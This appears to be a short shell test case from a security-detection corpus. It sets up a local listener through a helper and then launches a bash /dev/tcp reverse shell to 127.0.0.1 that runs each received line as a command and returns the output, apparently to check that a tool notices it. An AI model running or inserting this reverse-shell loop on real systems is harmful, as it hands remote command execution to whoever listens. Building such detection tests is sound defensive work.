# No shell is started: a running one has each command answer over the connection.
. "$CORPUS/lib/common.sh"
attacker listen 31044
bash -c 'exec 5<>/dev/tcp/127.0.0.1/31044; cat <&5 | while read -r l; do $l >&5 2>&5; done' &
verdict
